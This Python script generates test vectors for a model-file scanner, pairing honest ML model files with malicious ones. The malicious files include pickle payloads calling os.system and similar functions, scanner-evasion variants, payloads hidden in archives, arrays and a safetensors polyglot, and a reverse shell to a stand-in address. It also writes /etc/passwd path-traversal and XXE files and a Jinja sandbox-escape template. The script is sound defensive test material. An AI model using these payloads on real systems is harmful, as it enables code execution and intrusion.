#!/usr/bin/env python3
"""Writes the vectors of this directory: python make.py [DIRECTORY]. README.md says with which versions.

The malicious files are written opcode by opcode, or by pickling an object whose __reduce__ names a function. Nothing here
loads or runs any of them, and nothing may.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

import joblib
import numpy as np
import skops.io
from safetensors.numpy import save_file
from skl2onnx import to_onnx
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

OUT = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
RNG = np.random.default_rng(0)


def write(name, content):
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


class Call:
    """Pickles as a call that unpickling would make."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def stack_global(module, name):
    return short(module) + short(name) + b"\x93"


def zipped(entries, method=zipfile.ZIP_STORED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return stream.getvalue()


def tarred(entries):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, content in entries.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content))
    return stream.getvalue()


def dumped(value, **options):
    stream = io.BytesIO()
    joblib.dump(value, stream, **options)
    return stream.getvalue()


def npy(array):
    stream = io.BytesIO()
    np.save(stream, array, allow_pickle=True)
    return stream.getvalue()


def honest():
    x, y = load_iris(return_X_y=True)
    lr = LogisticRegression().fit(x, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y)
    pipeline = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    for protocol in range(6):
        write(f"honest/lr.p{protocol}.pkl", pickle.dumps(lr, protocol=protocol))
    write("honest/pipeline.pkl", pickle.dumps(pipeline))
    write("honest/rf.pkl", pickle.dumps(rf))
    write("honest/rf.joblib", dumped(rf))
    write("honest/rf.p2.joblib", dumped(rf, protocol=2))
    write("honest/rf.zlib.joblib", dumped(rf, compress=("zlib", 3)))
    write("honest/rf.gzip.joblib", dumped(rf, compress=("gzip", 3)))
    objects = np.array([1, "two", None], dtype=object)
    mixed = {"objects": objects, "numbers": np.arange(5.0), "text": np.array(["a", "bc"]), "none": np.zeros((0, 3))}
    mixed["scalar"], mixed["date"] = np.array(3.5), np.array(["2026-01-01"], dtype="M8[D]")
    write("honest/mixed.joblib", dumped(mixed))
    for protocol in (0, 1, 2, 5):
        data = {"weights": np.arange(6, dtype="f4").reshape(2, 3), "bias": b"\x00\xff", "one": np.float64(1)}
        write(f"honest/data.p{protocol}.pkl", pickle.dumps(OrderedDict(data), protocol=protocol))
    write("honest/lr.skops", skops.io.dumps(lr))
    write("honest/rf.skops", skops.io.dumps(RandomForestClassifier(n_estimators=1, max_depth=2).fit(x, y)))
    weights = {"layer.weight": RNG.random((4, 3), dtype="f4"), "layer.bias": np.zeros(4, dtype="f4")}
    save_file(weights, OUT / "honest/weights.safetensors", metadata={"format": "np"})
    save_file({}, OUT / "honest/empty.safetensors")
    write("honest/lr.onnx", to_onnx(lr, x[:1].astype("f4"), options={"zipmap": False}).SerializeToString())
    write("honest/array.npy", npy(RNG.random((4, 3))))
    write("honest/struct.npy", npy(np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4", (2,)), ("c", "U3")])))
    stream = io.BytesIO()
    np.savez(stream, a=np.arange(4), b=np.array(["x", "yz"]))
    write("honest/arrays.npz", stream.getvalue())
    stream = io.BytesIO()
    np.savez_compressed(stream, a=np.arange(400), b=np.eye(3))
    write("honest/compressed.npz", stream.getvalue())
    write("honest/model-card.json", json.dumps({"name": "iris", "version": 1, "scores": [0.5, 1e-3]}).encode())
    write("honest/README.md", b"# Iris\n\nNot all that begins with N. is a pickle.\n\n```python\nimport onnx\n```\n")
    write("honest/vocabulary.txt", "the\ncat\nsat\n\u00e9t\u00e9\n".encode())
    # To pickle this is the name of a module, and of what is in it, and then nothing.
    write("honest/words.txt", b"cat\ndog\nbird\n")
    write("honest/xgboost.json", b'{"learner":{"attributes":{},"objective":{"name":"reg:squarederror"}},"version":[2,1,0]}')
    ubj = b"{L" + struct.pack(">q", 7) + b"learner{L" + struct.pack(">q", 4) + b"base[$d#L" + struct.pack(">q", 2)
    ubj += struct.pack(">ff", 0.5, 1) + b"}L" + struct.pack(">q", 7) + b"version[#L" + struct.pack(">q", 1) + b"i\x02}"
    write("honest/xgboost.ubj", ubj)
    write("honest/lightgbm.txt", b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\n\nTree=0\nnum_leaves=2\n\nend of trees\n")
    text = lambda value: struct.pack("<Q", len(value)) + value
    header = b"GGUF" + struct.pack("<IQQ", 3, 1, 2) + text(b"general.name") + struct.pack("<I", 8) + text(b"tiny")
    header += text(b"tokens") + struct.pack("<IIQ", 9, 8, 2) + text(b"a") + text(b"b")
    header += text(b"w") + struct.pack("<IQIQ", 1, 4, 0, 0)
    write("honest/tiny.gguf", header + b"\0" * (-len(header) % 32) + struct.pack("<4f", 1, 2, 3, 4))
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"layers": [
        {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"units": 1}}]}}
    h5 = b"\x89HDF\r\n\x1a\n" + bytes(88)
    keras = {"metadata.json": b'{"keras_version":"3.9.0"}', "config.json": json.dumps(config).encode(), "model.weights.h5": h5}
    write("honest/dense.keras", zipped(keras))
    config["config"]["layers"].append({"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}})
    write("malicious/lambda.keras", zipped(keras | {"config.json": json.dumps(config).encode()}))
    config["config"]["layers"][1] = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    write("malicious/module.keras", zipped(keras | {"config.json": json.dumps(config).encode()}))
    write("honest/torch.pt", torch_archive(b""))
    write("malicious/torch.pt", torch_archive(b"cos\nsystem\n(S'id'\ntR0"))
    schema = zipfile.ZipFile(OUT / "honest/lr.skops")
    files = {name: schema.read(name) for name in schema.namelist()}
    evil = json.loads(files["schema.json"])
    evil |= {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode"}
    write("malicious/system.skops", zipped(files | {"schema.json": json.dumps(evil).encode()}))


def torch_archive(prefix):
    """As torch.save lays it out since 1.6, written by hand: the entries are stored, and their sizes follow them."""
    storage = b"(" + b"X\x07\0\0\0storage" + b"ctorch\nFloatStorage\n" + b"X\x01\0\0\x000X\x03\0\0\0cpuK\x04tQ"
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
    data = b"\x80\x02" + prefix + b"}X\x01\0\0\0w" + tensor + b"s."
    entries = {"archive/data.pkl": data, "archive/byteorder": b"little", "archive/data/0": struct.pack("<4f", 1, 2, 3, 4),
        "archive/version": b"3\n", "archive/.data/serialization_id": b"0123"}
    body, directory = b"", b""
    for name, content in entries.items():
        crc, size, offset = zlib.crc32(content), len(content), len(body)
        common = struct.pack("<HHHHH", 0, 0x0808, 0, 0, 0)
        padding = b"FB" + struct.pack("<H", 9) + b"Z" * 9
        body += b"PK\3\4" + common + struct.pack("<IIIHH", 0, 0, 0, len(name), len(padding)) + name.encode() + padding
        body += content + b"PK\7\x08" + struct.pack("<III", crc, size, size)
        directory += b"PK\1\2\0\0" + common + struct.pack("<IIIHHHHHII", crc, size, size, len(name), 0, 0, 0, 0, 0, offset)
        directory += name.encode()
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + b"PK\5\6" + end


def malicious():
    shell = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
    payload = pickle.dumps(Call(os.system, shell))
    for protocol in range(6):
        write(f"malicious/shell.p{protocol}.pkl", pickle.dumps(Call(os.system, shell), protocol=protocol))
    cases = {
        "global": b"cos\nsystem\n(S'id'\ntR.",
        "stack-global": b"\x80\x04" + stack_global("os", "system") + short("id") + b"\x85R.",
        "inst": b"(S'id'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'id'\no.",
        "newobj-ex": b"\x80\x04" + stack_global("subprocess", "Popen") + short("id") + b"\x85}\x92.",
        # The names go through the memo, the stack, and a tuple that is thrown away.
        "memo": b"\x80\x04" + short("system") + b"\x94" + short("os") + b"\x940" + b"0h\x01h\x00\x93" + short("id") + b"\x85R.",
        "memo-far": b"\x80\x04" + short("os") + b"r\x88\x13\0\0" + b"0" + short("system") + b"r\x89\x13\0\0" + b"0"
            + b"j\x88\x13\0\0j\x89\x13\0\0\x93" + short("id") + b"\x85R.",
        "memo-overwritten": b"\x80\x04" + short("math") + b"q\0" + b"0" + short("os") + b"q\0" + b"0h\0" + short("system")
            + b"\x93" + short("id") + b"\x85R.",
        "dup-pop": b"\x80\x04" + short("os") + b"2(10" + short("os") + short("x") + b"0" + short("system") + b"\x93" + short("id") + b"\x85R.",
        "escaped": b"\x80\x04Vo\\u0073\nV\\u0073ystem\n\x93" + short("id") + b"\x85R.",
        "computed": b"\x80\x04" + stack_global("builtins", "str") + short("os") + b"\x85R" + short("system") + b"\x93" + short("id") + b"\x85R.",
        "codec": b"\x80\x02c_codecs\nencode\nX\x02\0\0\0idX\x03\0\0\0hex\x86R.",
        "import": b"c__builtin__\n__import__\n(S'os'\ntR.",
        "getattr": b"\x80\x04" + stack_global("builtins", "getattr") + stack_global("builtins", "__import__") + short("os")
            + b"\x85R" + short("system") + b"\x86R" + short("id") + b"\x85R.",
        "dotted": b"\x80\x04" + stack_global("sklearn.utils", "os.system") + short("id") + b"\x85R.",
        "ext": b"\x80\x02\x82\x01)R.",
        "ext4": b"\x80\x02\x84\x01\0\0\0)R.",
        "numpy-builtins": b"\x80\x04" + stack_global("numpy", "__builtins__") + b"(" + short("len") + short("x") + b"u.",
        "class-changed": b"\x80\x04" + stack_global("collections", "OrderedDict") + b"N}" + short("items") + stack_global("os", "system")
            + b"s\x86b.",
        "cdll": b"\x80\x04" + stack_global("ctypes", "CDLL") + short("/tmp/x") + b"\x85R.",
        "import-module": b"\x80\x04" + stack_global("importlib", "import_module") + short("antigravity") + b"\x85R.",
        "pip": b"\x80\x04" + stack_global("pip", "main") + b"]\x85R.",
        "runstring": b"\x80\x04" + stack_global("numpy.testing._private.utils", "runstring") + short("x") + b"}\x86R.",
        "second": pickle.dumps({"a": 1}) + payload,
        "no-stop": b"\x80\x04" + stack_global("os", "system") + short("id") + b"\x85R",
        "broken-after": b"\x80\x04" + stack_global("os", "system") + short("id") + b"\x85R\xff\xff",
        "persistent": b"\x80\x04" + short("key") + b"Q.",
        "frame": b"\x80\x04\x95\x05\0\0\0\0\0\0\0" + stack_global("os", "system") + short("id") + b"\x85R.",
    }
    for name, content in cases.items():
        write(f"malicious/{name}.pkl", content)
    write("malicious/notes.txt", cases["global"])
    write("malicious/model.onnx", payload)
    write("malicious/shell.zlib", zlib.compress(payload))
    write("malicious/shell.tar.gz", gzip.compress(tarred({"a/b.txt": b"hello", "a/model.bin": payload}), mtime=0))
    inner = zipped({"model.dat": payload}, zipfile.ZIP_DEFLATED)
    write("malicious/nested.zip", zipped({"README": b"hello\n", "inner.zip": inner}))
    write("malicious/shell.xz", lzma.compress(payload))
    write("malicious/shell.lzma", lzma.compress(payload, format=lzma.FORMAT_ALONE))
    write("malicious/shell.bz2", bz2.compress(payload))
    write("malicious/object.npy", npy(np.array([Call(os.system, "id")], dtype=object)))
    stream = io.BytesIO()
    np.savez(stream, good=np.arange(3), bad=np.array([Call(os.system, "id")], dtype=object))
    write("malicious/object.npz", stream.getvalue())
    write("malicious/first.joblib", dumped([Call(os.system, "id"), np.arange(9)]))
    after = [np.arange(9), Call(os.system, "id")]
    write("malicious/after-array.joblib", dumped(after))
    write("malicious/after-array.zlib.joblib", dumped(after, compress=("zlib", 3)))
    write("malicious/after-array.lzma.joblib", dumped(after, compress=("lzma", 3)))
    write("malicious/object-array.joblib", dumped(np.array([Call(os.system, "id")], dtype=object)))
    # To joblib it is the bytes of an array; to pickle.load, which knows no arrays, the pickle goes on in them.
    code = b"0" + stack_global("os", "system") + short("id") + b"\x85R."
    array = np.frombuffer(code.ljust(64, b"\0"), dtype="u1")
    hidden = dumped(array)
    at = hidden.index(code)
    padding = at - hidden[:at].rindex(b"b") - 2
    write("malicious/inside-array.joblib", unpadded(hidden, at, padding))
    # The same with names that the pickle before it stored.
    code = b"0h\x01h\x02\x93" + short("id") + b"\x85R."
    hidden = dumped(["os", "system", np.frombuffer(code.ljust(64, b"\0"), dtype="u1")])
    at = hidden.index(code)
    write("malicious/inside-array-memo.joblib", unpadded(hidden, at, at - hidden[:at].rindex(b"b") - 2))
    # To joblib the inner pickle names collections.OrderedDict; to pickle.load, which goes on with what it remembers, another.
    inner = b"\x80\x04" + short("x") + b"\x94" + short("collections") + b"\x94" + short("OrderedDict") + b"\x94h\x01h\x02\x93)R."
    hidden = dumped(["os", "system", np.array([None], dtype=object)])
    at = hidden.index(b"\x80", 1)
    write("malicious/inside-object-array.joblib", hidden[:at] + inner + hidden[hidden.rindex(b".", 0, -1) + 1 :])
    weights = (OUT / "honest/weights.safetensors").read_bytes()
    write("malicious/appended.safetensors", weights + zipped({"data.pkl": payload}))
    write("malicious/overlap.safetensors", weights.replace(b'"data_offsets":[16,64]', b'"data_offsets":[00,48]'))
    write("malicious/polyglot.safetensors", polyglot(cases["stack-global"][2:]))
    write("malicious/traversal.onnx", external(b"../../etc/passwd"))
    write("malicious/absolute.onnx", external(b"/etc/passwd"))
    write("honest/external.onnx", external(b"weights.bin"))
    write("malicious/two-names.zip", zipped({"aa.txt": b"hello\n"}).replace(b"aa.txt", b"bb.txt", 1))
    write("malicious/prefixed.zip", b"#!" + zipped({"a.txt": b"hello\n"}))
    write("malicious/run.sh", b"#!/bin/sh\nid\n")
    write("malicious/modeling.txt", b'"""A model."""\n\n# setup\nimport os\n\nos.system("id")\n')
    write("malicious/library.bin", b"\x7fELF\x02\x01\x01" + bytes(57))
    write("malicious/template.gguf", template())
    write("malicious/entity.pmml", b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4"/>\n')


def unpadded(content, at, padding):
    """Without the bytes that align an array: pickle.load would stop at them, and joblib does not need them."""
    head = content[: at - padding - 1]
    name = b"numpy_array_alignment_bytes"
    where = head.index(b"\x8c" + bytes([len(name)]) + name)
    end = where + 2 + len(name)
    # The key is followed by MEMOIZE and BININT1 16; None makes it an array without padding.
    assert head[end : end + 3] == b"\x94K\x10", head[end : end + 3]
    head = head[:end] + b"\x94N" + head[end + 3 :]
    # The frame is one byte shorter.
    frame = head.index(b"\x95")
    length = struct.unpack("<Q", head[frame + 1 : frame + 9])[0]
    head = head[: frame + 1] + struct.pack("<Q", length - 1) + head[frame + 9 :]
    return head + content[at:]


def polyglot(code):
    """A safetensors file that is a pickle, too: its header's length is a LONG4 that ends in the tensor's name, from where
    short strings lead to the tensor."""
    total = 0x58B
    position = 5 + (total >> 8)
    start = 8 + total
    name = ""
    while start - position - 2 > 120:
        name += "U" + chr(100) + "a" * 100
        position += 102
    name += "U" + chr(start - position - 2)
    rest = {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}
    header = json.dumps({name: rest}, separators=(",", ":")).ljust(total)
    assert len(header) == total and header.startswith('{"U')
    return struct.pack("<Q", total) + header.encode() + code.ljust(64, b"\0")


def external(path):
    field = lambda number, content: bytes([number << 3 | 2, len(content)]) + content
    entry = field(13, field(1, b"location") + field(2, path))
    tensor = field(5, b"\x08\x04\x10\x01" + field(8, b"w") + entry + b"\x70\x01")
    return b"\x08\x08" + field(7, tensor + field(2, b"g")) + field(8, b"\x10\x0d")


def template():
    text = lambda value: struct.pack("<Q", len(value)) + value
    jinja = b"{{ ().__class__.__base__.__subclasses__() }}"
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text(b"tokenizer.chat_template") + struct.pack("<I", 8) + text(jinja)


class Recorder(pickle.Unpickler):
    """CPython's own unpickler, which is given a harmless stand-in for whatever it asks for, and says what that was."""

    class Anything:
        def __init__(self, *arguments, **keywords):
            pass

        def __setstate__(self, state):
            pass

        def append(self, item):
            pass

        def extend(self, items):
            pass

        def __setitem__(self, key, value):
            pass

    def __init__(self, content):
        super().__init__(io.BytesIO(content))
        self.names = set()

    def find_class(self, module, name):
        self.names.add(f"{module} {name}")
        return type(name if name.isidentifier() else "Anything", (self.Anything,), {})


def names_of(content):
    recorder = Recorder(content)
    try:
        recorder.load()
    except Exception:  # Whatever it is: only what was asked for until then counts.
        pass
    return recorder.names


def mutations():
    """One byte changed in an honest pickle, and what CPython then asks for beyond what it asked for before."""
    rows = []
    files = [f"lr.p{protocol}.pkl" for protocol in range(6)] + ["data.p0.pkl", "data.p2.pkl", "data.p5.pkl", "pipeline.pkl"]
    for file in files:
        content = (OUT / "honest" / file).read_bytes()
        before = names_of(content)
        for at in RNG.choice(len(content), 300, replace=len(content) < 300):
            byte = int(RNG.choice(list(b"cio.0RNb2h\x93\x8c\x94asX") + [int(RNG.integers(256))]))
            changed = content[:at] + bytes([byte]) + content[at + 1 :]
            names = names_of(changed) - before
            if names:
                rows.append({"file": file, "at": int(at), "byte": byte, "names": sorted(names)})
    text = ",\n".join(json.dumps(row) for row in rows)
    write("mutations.json", f"[\n{text}\n]\n".encode())


honest()
malicious()
mutations()
